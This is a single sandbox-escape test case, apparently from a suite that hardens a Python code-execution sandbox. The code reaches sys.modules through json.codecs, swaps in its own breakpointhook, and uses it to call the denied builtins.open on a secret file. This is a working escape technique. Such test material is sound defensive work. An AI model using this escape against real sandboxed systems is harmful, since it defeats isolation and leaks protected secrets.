# class: denied builtins come back
# technique: breakpoint, which is a debugger
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import json
modules = json.codecs.sys.modules
box = []
modules["sys"].breakpointhook = lambda: box.append(modules["builtins"].open(host["secret"]).read())
breakpoint()
return [{"json": {"reached": box[0]}}]
